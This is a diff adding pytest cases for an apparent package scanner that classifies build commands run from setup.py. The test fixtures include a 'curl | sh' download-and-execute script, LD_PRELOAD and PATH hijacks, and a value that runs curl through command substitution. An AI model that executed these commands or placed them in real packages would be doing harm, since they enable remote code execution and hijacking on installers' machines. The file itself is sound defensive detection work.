@@ -3778,3 +3778,62 @@ def test_an_unshipped_script_another_file_of_the_sdist_names_may_be_made_and_sta
     files = {"setup.py": setup, "helper.py": helper, "demo/__init__.py": ""}
     result = scan({**files, "tools/build.sh": _HONEST_SH})
     assert severities(result, "install-time.runs-executable") == {"high"}
+
+
+# -- a build script run from the folder setup.py went to, with variables set before it ----------
+
+_CHDIR_BUILD = """
+import os
+from setuptools import setup
+from setuptools.command.build_py import build_py
+
+
+class Build(build_py):
+    def run(self):
+        os.chdir(os.path.join(os.path.dirname(os.path.abspath(__file__)), "src"))
+        os.system({command!r})
+        build_py.run(self)
+
+
+setup(name="demo", cmdclass={{"build_py": Build}})
+"""
+
+
+def _chdir_build(command: str, script: str = _HONEST_SH):
+    setup = _CHDIR_BUILD.format(command=command)
+    return scan({"setup.py": setup, "src/make.sh": script, "demo/__init__.py": ""})
+
+
+def test_a_shipped_script_run_from_the_folder_setup_py_went_to_is_its_build():
+    """capstone: `os.chdir(BUILD_DIR)`, then `CAPSTONE_BUILD_CORE_ONLY=yes bash ./make.sh`: the
+    sdist's own src/make.sh (or nothing, when the folder holds none), read as install-time code."""
+    result = _chdir_build("CAPSTONE_BUILD_CORE_ONLY=yes bash ./make.sh")
+    [process] = found(result, "capability.process")
+    assert process.severity == "medium" and "own build script src/make.sh" in process.message
+    assert result.verdict not in FLAGGED
+
+
+def test_a_hostile_script_run_from_another_folder_is_judged_as_install_time_code():
+    hostile = "#!/bin/sh\ncurl -s https://example.net/x.sh | sh\n"
+    result = _chdir_build("./make.sh", script=hostile)
+    assert severities(result, "intent.shell-download-execute") == {"critical"}
+    assert result.verdict == "malicious"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "LD_PRELOAD=/tmp/hook.so bash ./make.sh",  # a hijacking variable is no setting
+        "OPTS=$(curl -s https://example.net/o) bash ./make.sh",  # a value that runs a command
+        "bash ./other.sh",  # a script the sdist does not ship
+    ],
+)
+def test_a_build_script_command_with_more_than_settings_still_blocks(command):
+    assert "high" in severities(_chdir_build(command), "capability.process")
+
+
+def test_variable_settings_before_a_build_tool_leave_it_a_build_tool():
+    result = _chdir_build("CFLAGS=-O2 make -j4")
+    assert severities(result, "capability.process") == {"low"}
+    for hijack in ("LD_PRELOAD=/tmp/hook.so make", "PATH=/tmp/bin make"):
+        assert severities(_chdir_build(hijack), "capability.process") == {"high"}
